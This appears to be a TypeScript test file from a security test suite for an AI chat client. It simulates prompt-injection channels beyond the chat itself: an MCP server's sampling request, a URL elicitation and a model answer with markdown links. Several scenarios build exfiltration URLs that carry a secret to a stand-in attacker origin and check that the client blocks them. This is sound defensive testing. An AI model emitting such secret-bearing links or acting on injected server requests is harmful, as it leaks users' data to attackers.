/**
 * The corpus's channels that are not a chat request (corpus-scenarios.ts holds the rest): a
 * server's sampling request, a URL elicitation, and a link in the model's answer.
 */
import { renderToStaticMarkup } from 'react-dom/server';
import { createElement } from 'react';

import { Markdown } from '../../components/chat/Markdown';
import { createLanguageModel } from '../../src/models/model';
import { runSampling } from '../../src/asks/run-sampling';

import { startFixtureServer } from '../fixtures/mcp-fixture-server';

import { SECRET } from './world';
import type { Scenario } from './corpus-scenarios';

export const BEYOND_THE_CHAT: Scenario[] = [
  {
    channel: 'sampling request',
    goal: 'post, other server',
    async run(world, attack) {
      // A server asks to use the person's model with the attack in its messages; the person
      // approves the request as it is. A sampling run offers the model no tools.
      const { text } = await runSampling(
        createLanguageModel(world.settings),
        { messages: [{ role: 'user', content: { type: 'text', text: attack } }], maxTokens: 100 },
        { messages: [{ role: 'user', text: attack }], maxTokens: 100 },
      );
      const offered = (world.model.requests[0]?.body as { tools?: unknown[] } | undefined)?.tools;
      return {
        result: offered?.length ? 'ran' : 'no call',
        detail: `no tools offered; the answer (${JSON.stringify(text)}) goes back only after the person reads it`,
      };
    },
  },
  {
    channel: 'URL elicitation',
    goal: 'new origin',
    async run(world) {
      // A server asks the person to open the attacker's page, with data in its address.
      const asking = await startFixtureServer({ asks: true });
      try {
        const serverId = await world.client.request('mcp/servers/add', {
          name: 'Asker',
          url: asking.mcpUrl,
        });
        await world.client.server(serverId.server.id, 'enable', {});
        const url = `${world.attacker.origin}/collect?d=${SECRET}`;
        const call = world.client
          .server(serverId.server.id, 'tool/call', { name: 'ask_page', arguments: { url } })
          .catch(() => undefined);
        let asks = (await world.client.request('mcp/asks/list')).asks;
        for (let tries = 0; !asks.length && tries < 200; tries += 1) {
          await new Promise((resolve) => setTimeout(resolve, 10));
          asks = (await world.client.request('mcp/asks/list')).asks;
        }
        if (!asks[0]) return { result: 'no call', detail: 'the server asked nothing' };
        const beforeAnswer = world.attacker.hits.length;
        await world.client.request('mcp/asks/answer', {
          id: asks[0].id,
          answer: { action: 'decline' },
        });
        await call;
        return {
          result: beforeAnswer ? 'ran' : 'not followed',
          destination: url,
          detail: 'shown on a card; nothing opens without the person’s click',
        };
      } finally {
        await asking.close();
      }
    },
  },
  {
    channel: 'markdown link',
    goal: 'new origin',
    async run(world) {
      // The model's answer (steered) links and embeds the attacker's address with the secret.
      const url = `${world.attacker.origin}/collect?d=${SECRET}`;
      const html = renderToStaticMarkup(
        createElement(Markdown, { text: `See [your booking](${url}) ![status](${url}&img=1)` }),
      );
      const loadsByItself = /<(img|iframe|script|link)\b/i.test(html);
      const host = new URL(url).host;
      return {
        result: loadsByItself ? 'ran' : 'not followed',
        destination: url,
        detail: html.includes(`(${host})`)
          ? `shown as links with their host (${host}); nothing loads without a click`
          : 'shown without its host',
      };
    },
  },
];
